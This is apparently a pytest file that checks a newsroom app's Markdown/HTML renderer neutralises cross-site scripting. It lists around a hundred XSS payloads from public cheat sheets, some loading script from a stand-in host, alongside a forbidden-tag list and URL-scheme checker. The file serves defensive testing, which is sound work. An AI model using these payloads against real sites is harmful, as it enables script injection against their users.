"""Hostile Markdown and HTML in a body come out of render_body inert.

The vectors are drawn from public cheat sheets (OWASP XSS Filter Evasion Cheat Sheet, PortSwigger
XSS cheat sheet, HTML5 Security Cheatsheet) and from Markdown-specific tricks. The output is
parsed with html.parser, not searched with regular expressions.
"""

import html
import re
from html.parser import HTMLParser

import pytest

from yaowen.newsroom.rendering import ALLOWED_ATTRIBUTES, ALLOWED_TAGS, render_body

FORBIDDEN_TAGS = {
    "script", "iframe", "frame", "frameset", "object", "embed", "applet", "style", "svg", "math",
    "meta", "base", "form", "link", "input", "button", "textarea", "select", "template",
    "noscript", "xmp", "video", "audio", "source", "body", "html", "head",
}  # fmt: skip
URL_ATTRIBUTES = {
    "href", "src", "action", "formaction", "data", "xlink:href", "background", "poster",
    "codebase", "dynsrc", "lowsrc", "srcset", "cite", "longdesc", "ping", "content",
}  # fmt: skip
SAFE_SCHEMES = {"http", "https", "mailto"}
GENERIC_ATTRIBUTES = {"lang", "title"}  # nh3 allows these on every tag by default
# A browser ignores these inside a URL scheme, so "java\tscript:" is "javascript:".
_IGNORED_IN_URL_RE = re.compile(r"[\x00-\x20\x7f-\x9f\u00a0\u200b-\u200f\u2028\u2029\ufeff]")
_SCHEME_RE = re.compile(r"([a-z][a-z0-9+.\-]*):")


def url_is_safe(value: str) -> bool:
    """Whether a URL attribute value is relative or uses http, https or mailto."""
    # Decode twice: once for the attribute, once more in case of double encoding.
    url = _IGNORED_IN_URL_RE.sub("", html.unescape(html.unescape(value))).lower()
    match = _SCHEME_RE.match(url)
    if match:
        return match[1] in SAFE_SCHEMES
    # Without a scheme the URL is relative unless a colon sits before any "/", "?" or "#".
    return ":" not in re.split(r"[/?#]", url, maxsplit=1)[0]


class _InertAudit(HTMLParser):
    """Collects every reason the parsed HTML could run script or restyle the page."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in FORBIDDEN_TAGS:
            self.problems.append(f"forbidden tag <{tag}>")
        elif tag not in ALLOWED_TAGS:
            self.problems.append(f"tag <{tag}> is not in the safelist")
        allowed = ALLOWED_ATTRIBUTES.get(tag, set()) | GENERIC_ATTRIBUTES
        if tag == "a":
            allowed = allowed | {"rel"}  # nh3 adds link_rel
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"event handler {name} on <{tag}>")
            elif name in {"style", "srcdoc"}:
                self.problems.append(f"{name} attribute on <{tag}>")
            elif name not in allowed:
                self.problems.append(f"attribute {name} on <{tag}> is not in the safelist")
            if name in URL_ATTRIBUTES and value is not None and not url_is_safe(value):
                self.problems.append(f"unsafe URL {name}={value!r} on <{tag}>")

    def handle_comment(self, data: str) -> None:
        self.problems.append(f"comment <!--{data}-->")  # e.g. IE conditional comments

    def handle_decl(self, decl: str) -> None:
        self.problems.append(f"declaration <!{decl}>")

    def handle_pi(self, data: str) -> None:
        self.problems.append(f"processing instruction <?{data}>")

    def unknown_decl(self, data: str) -> None:
        self.problems.append(f"declaration <![{data}]>")


def inert_problems(markup: str) -> list[str]:
    """Everything in rendered `markup` that could execute script; empty when it is inert."""
    audit = _InertAudit()
    audit.feed(markup)
    audit.close()
    lowered = markup.lower()
    for tag in FORBIDDEN_TAGS:
        if f"<{tag}" in lowered:  # belt and braces: the parser saw every real tag already
            audit.problems.append(f"raw text <{tag}")
    return audit.problems


PAYLOAD_B64 = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="  # <script>alert(1)</script>
ENTITY_DECIMAL = "".join(f"&#{ord(char)};" for char in "javascript:alert('XSS')")
ENTITY_HEX_NO_SEMICOLON = "".join(f"&#x{ord(char):X}" for char in "javascript:alert('XSS')")
ENTITY_PADDED = "".join(f"&#{ord(char):07d}" for char in "javascript:alert('XSS')")

VECTORS = [
    # Script tags in many spellings.
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    '<SCRIPT/XSS SRC="https://xss.example/xss.js"></SCRIPT>',
    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<script type="text/javascript">javascript:alert(1);</script>',
    "<script>alert(1)",
    '<img """><script>alert("XSS")</script>">',
    "<template><script>alert(1)</script></template>",
    "<xmp><script>alert(1)</script></xmp>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    # Event handlers.
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    '<img src="https://example.com/a.png" onload="alert(1)">',
    "<body onload=alert(1)>",
    '<div onmouseover="alert(1)">hover me</div>',
    "<input onfocus=alert(1) autofocus>",
    "<details open ontoggle=alert(1)>",
    '<a href="https://example.com" onclick="alert(1)">ok</a>',
    "<a href=mailto:x@example.com onmouseover=alert(1)>mail</a>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<img/src=x\nonerror=alert(1)>",
    "<img src=`x`onerror=alert(1)>",
    # URLs in raw HTML.
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    f"<IMG SRC={ENTITY_DECIMAL}>",
    f"<IMG SRC={ENTITY_HEX_NO_SEMICOLON}>",
    f'<a href="{ENTITY_PADDED}">x</a>',
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="jav&#x61;script:alert(1)">x</a>',
    '<a href="&#x6a;avascript:alert(1)">x</a>',
    '<a href="java&Tab;script:alert(1)">x</a>',
    '<a href=" \x01javascript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    f'<a href="data:text/html;base64,{PAYLOAD_B64}">x</a>',
    '<a href="javascript:alert(1)"',
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    # Embedded documents and plugins.
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    f'<embed src="data:text/html;base64,{PAYLOAD_B64}">',
    '<frameset><frame src="javascript:alert(1)"></frameset>',
    # SVG and MathML.
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<math href="javascript:alert(1)">CLICKME</math>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    # Styles.
    "<style>@import'https://xss.example/xss.css';</style>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<div style="width: expression(alert(1));">x</div>',
    '<link rel="stylesheet" href="javascript:alert(1)">',
    # Document-level tags.
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(1);">',
    f'<meta http-equiv="refresh" content="0;url=data:text/html;base64,{PAYLOAD_B64}">',
    '<BASE HREF="javascript:alert(1);//">',
    '<form action="javascript:alert(1)"><input type=submit></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    # Markdown links and images.
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](jav&#x61;script:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x]( javascript:alert(1) )",
    "[x](\njavascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    f"[x](data:text/html;base64,{PAYLOAD_B64})",
    "![x](javascript:alert(1))",
    f"![x](data:text/html;base64,{PAYLOAD_B64})",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    "<vbscript:msgbox(1)>",
    "[a][1]\n\n[1]: javascript:alert(1)",
    '[a][1]\n\n[1]: <javascript:alert(1)> "title"',
    # Breaking out of attributes.
    '[x](https://example.com "title\\" onmouseover=\\"alert(1)")',
    '[x](https://example.com "a" onmouseover="alert(1)")',
    '![x](/a.png "\\" onerror=\\"alert(1)")',
    '![x"onerror="alert(1)](/a.png)',
    '![x](/a.png"onerror="alert(1))',
    '![<img src=x onerror=alert(1)>](/a.png "<script>alert(1)</script>")',
    "![x](/a.png 'it''s \"quoted\" <b onmouseover=alert(1)>')",
    "[<img src=x onerror=alert(1)>](https://example.com)",
    "[x](https://example.com)<img src=x onerror=alert(1)>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "- <svg onload=alert(1)>\n- [x](javascript:alert(1))",
    "> <iframe src=javascript:alert(1)>",
    # Code and templates: text, never markup.
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}<%= alert(1) %>",
]


def test_there_are_at_least_forty_vectors():
    assert len(VECTORS) >= 40
    assert len(set(VECTORS)) == len(VECTORS)


@pytest.mark.parametrize("vector", VECTORS)
def test_vector_renders_inert(vector):
    assert inert_problems(render_body(vector)) == []


@pytest.mark.parametrize(
    "markup",
    [
        "<script>alert(1)</script>",
        "<SVG ONLOAD=alert(1)>",
        '<a href="jav&#x61;script:alert(1)">x</a>',
        '<a href="java\tscript:alert(1)">x</a>',
        '<img src=" data:text/html,x">',
        '<p style="color:red">x</p>',
        '<iframe srcdoc="x"></iframe>',
        "<img src=x onerror=alert(1)>",
        '<a href="vbscript:x">x</a>',
        "<!--[if IE]>x<![endif]-->",
    ],
)
def test_the_checker_catches_unsafe_markup(markup):
    assert inert_problems(markup) != []


@pytest.mark.parametrize(
    "url",
    ["https://example.com/a", "http://example.com", "mailto:a@example.com", "/media/a.webp",
     "a.png", "#top", "?page=2", "//example.com/x", "/path:with-colon"],
)  # fmt: skip
def test_the_checker_accepts_safe_urls(url):
    assert url_is_safe(url)


def test_harmless_text_survives():
    markup = render_body(
        "正文里提到 alert(1) 和 <script> 这两个词。\n\n"
        "{{constructor.constructor('alert(1)')()}}\n\n"
        "[正常链接](https://example.com/a?b=1) ![图](/media/a.webp)"
    )
    assert inert_problems(markup) == []
    text = _text_of(markup)
    assert "alert(1)" in text
    assert "{{constructor.constructor('alert(1)')()}}" in text
    assert 'href="https://example.com/a?b=1"' in markup
    assert 'src="/media/a.webp"' in markup


def test_a_disarmed_link_keeps_its_text():
    markup = render_body("[点我](javascript:alert(1))")
    assert _text_of(markup).strip() == "点我"


def _text_of(markup: str) -> str:
    parts: list[str] = []

    class _Text(HTMLParser):
        def handle_data(self, data: str) -> None:
            parts.append(data)

    parser = _Text(convert_charrefs=True)
    parser.feed(markup)
    parser.close()
    return "".join(parts)
